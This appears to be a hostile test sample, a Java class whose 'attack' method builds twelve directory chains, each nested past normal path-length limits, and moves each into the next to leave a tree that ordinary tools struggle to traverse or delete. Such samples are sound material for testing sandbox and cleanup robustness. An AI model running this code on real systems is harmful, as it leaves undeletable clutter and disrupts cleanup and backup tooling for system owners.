// Leaves a folder in a folder in a folder, deeper than a name can say.
// ends: any
package hostile;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;

public class DeepFolders {
    public static int attack(int n) throws Exception {
        Path own = Paths.get("").toAbsolutePath();
        Path deep = null;
        for (int i = 0; i < 12; i++) {
            Path chain = own.resolve("chain" + i);
            Path at = chain;
            while (at.toString().length() < 3900) {
                at = at.resolve("d");
            }
            Files.createDirectories(at);
            Files.write(at.resolve("f"), new byte[] {1});
            if (deep != null) {
                Files.move(deep, at.resolve("d"));
            }
            deep = chain;
        }
        return 0;
    }
}
